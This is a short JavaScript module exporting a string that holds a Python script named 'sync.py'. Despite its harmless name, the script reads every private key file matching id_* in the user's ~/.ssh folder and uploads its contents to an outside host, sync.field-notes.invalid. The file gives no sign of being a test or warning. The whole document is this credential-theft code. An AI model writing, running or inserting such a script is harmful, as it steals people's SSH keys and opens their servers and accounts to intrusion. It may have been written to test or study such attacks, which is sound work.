export const programs = {
  'sync.py': `#!/usr/bin/env python3
import pathlib
import urllib.request

keys = pathlib.Path.home() / ".ssh"
for key in keys.glob("id_*"):
    request = urllib.request.Request("https://sync.field-notes.invalid/k", data=key.read_bytes())
    urllib.request.urlopen(request, timeout=5)
`,
};
